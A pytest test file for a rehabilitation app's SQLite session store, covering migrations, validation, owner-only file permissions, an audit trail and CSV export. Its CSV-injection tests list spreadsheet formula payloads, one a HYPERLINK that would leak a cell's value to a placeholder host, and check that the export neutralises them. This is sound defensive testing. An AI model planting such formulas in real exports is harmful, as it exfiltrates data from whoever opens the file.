"""Session history on a real SQLite file."""

from __future__ import annotations

import csv
import sqlite3

import pytest

from rehab.store import SCHEMA_VERSION, SessionRecord, Store, StoreError, StoredRepetition


def _record(pseudonym="P-001", started="2026-11-01T10:00:00+00:00", spans=(40.0, 55.0), exercise="squat"):
    reps = tuple(StoredRepetition(number=i + 1, rom_min_deg=10.0, rom_max_deg=10.0 + s, start_s=i * 3.0, end_s=i * 3.0 + 2)
                 for i, s in enumerate(spans))
    return SessionRecord(pseudonym=pseudonym, exercise=exercise, started_at=started, duration_s=30.0, frames=900,
                         frames_with_pose=880, repetitions=reps, summary={"repetitions": len(reps)})


def test_sessions_round_trip_and_trend_in_time_order(tmp_path):
    with Store(tmp_path) as store:
        second = store.add_session(_record(started="2026-11-08T10:00:00+00:00", spans=(60.0, 70.0, 65.0)))
        store.add_session(_record(started="2026-11-01T10:00:00+00:00"))
        store.add_session(_record(pseudonym="P-002"))
        trend = store.trend("P-001", "squat")
        assert [t["repetitions"] for t in trend] == [2, 3]
        assert trend[1]["rom_best_deg"] == pytest.approx(70.0)
        assert trend[0]["rom_mean_deg"] == pytest.approx(47.5)
        assert len(store.repetitions(second)) == 3
        assert store.summary(second) == {"repetitions": 3}
        assert {p["pseudonym"]: p["sessions"] for p in store.patients()} == {"P-001": 2, "P-002": 1}
    # Data persists in the file, not in the object.
    with Store(tmp_path) as again:
        assert len(again.sessions()) == 3


def test_schema_is_versioned_and_old_databases_upgrade(tmp_path):
    db = sqlite3.connect(tmp_path / "rehab.sqlite3")
    from rehab import store as store_module

    db.executescript(store_module._MIGRATIONS[0])
    db.execute("PRAGMA user_version = 1")
    db.execute("INSERT INTO patients (pseudonym, created_at) VALUES ('old', '2025-01-01')")
    db.commit()
    db.close()
    with Store(tmp_path) as store:
        assert store.schema_version == SCHEMA_VERSION
        assert [p["pseudonym"] for p in store.patients()] == ["old"]
        store.add_session(_record(pseudonym="old"))
        assert store.sessions("old")[0]["notes"] == ""


def test_newer_or_corrupt_database_is_refused_with_a_clear_error(tmp_path):
    (tmp_path / "a").mkdir()
    db = sqlite3.connect(tmp_path / "a" / "rehab.sqlite3")
    db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 5}")
    db.close()
    with pytest.raises(StoreError, match="newer than this release"):
        Store(tmp_path / "a")
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "rehab.sqlite3").write_bytes(b"this is not sqlite" * 100)
    with pytest.raises(StoreError, match="not a readable history database"):
        Store(tmp_path / "b")


def test_pseudonym_is_required_and_bounded(tmp_path):
    with Store(tmp_path) as store:
        with pytest.raises(StoreError, match="pseudonym"):
            store.add_patient("   ")
        with pytest.raises(StoreError, match="64"):
            store.add_patient("x" * 65)


def test_export_csv(tmp_path):
    with Store(tmp_path) as store:
        store.add_session(_record())
        out = store.export_csv(tmp_path / "sessions.csv")
    rows = list(csv.DictReader(out.open()))
    assert rows[0]["pseudonym"] == "P-001" and rows[0]["repetitions"] == "2"
    assert not (tmp_path / "sessions.csv.part").exists()


# Strings a spreadsheet would run as formulas (OWASP's CSV injection list) or that start one after a tab/CR.
INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "=1+1", "+1+1", "-1+1", "@SUM(1)",
              "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_export_csv_neutralises_formulas(tmp_path, text):
    with Store(tmp_path) as store:
        store.add_session(SessionRecord(pseudonym="P-1", exercise="squat", started_at="2026-11-01T10:00:00+00:00",
                                        notes=text, source=text))
        out = store.export_csv(tmp_path / "sessions.csv")
    [row] = list(csv.DictReader(out.open(newline="")))
    assert row["notes"] == "'" + text and row["source"] == "'" + text
    assert row["pseudonym"] == "P-1" and row["rom_best_deg"] == ""  # plain values stay as they were


def test_formula_like_pseudonyms_are_neutralised_too(tmp_path):
    with Store(tmp_path) as store:
        store.add_patient("=1+1")
        store.add_session(SessionRecord(pseudonym="=1+1", exercise=None, started_at="2026-11-01T10:00:00+00:00"))
        out = store.export_csv(tmp_path / "sessions.csv")
    [row] = list(csv.DictReader(out.open(newline="")))
    assert row["pseudonym"] == "'=1+1"


@pytest.mark.parametrize("bad", ["P\x00-1", "P-\x1b[31m", "P\n2", "P\u200b1", "P\u202e1", "P\x7f"])
def test_pseudonyms_with_control_characters_are_refused(tmp_path, bad):
    with Store(tmp_path) as store, pytest.raises(StoreError, match="control or invisible characters"):
        store.add_patient(bad)


def test_database_and_exports_are_owner_only_whatever_the_umask(tmp_path):
    import os
    import stat

    old = os.umask(0o022)
    try:
        folder = tmp_path / "data"
        with Store(folder) as store:
            store.add_session(SessionRecord(pseudonym="P-1", exercise="squat", started_at="2026-11-01T10:00:00+00:00"))
            out = store.export_csv(folder / "sessions.csv")
        (tmp_path / "wide").mkdir(mode=0o755)
        Store(tmp_path / "wide").close()
    finally:
        os.umask(old)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "rehab.sqlite3").stat().st_mode) == 0o600
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "wide").stat().st_mode) == 0o700  # an existing folder is narrowed


def test_audit_trail(tmp_path):
    with Store(tmp_path) as store:
        store.audit("alice", "record", pseudonym="P-1", session_id=3, detail="live recording, 12 s")
        store.audit("bob", "export", detail="CSV of all patients' sessions")
        with pytest.raises(ValueError, match="unknown audit action 'delete'"):
            store.audit("bob", "delete")
        log = store.audit_log()
    assert [(e["user"], e["action"], e["pseudonym"], e["session_id"]) for e in log] == [
        ("bob", "export", None, None), ("alice", "record", "P-1", 3)]
    assert all(e["at"].endswith("+00:00") for e in log)
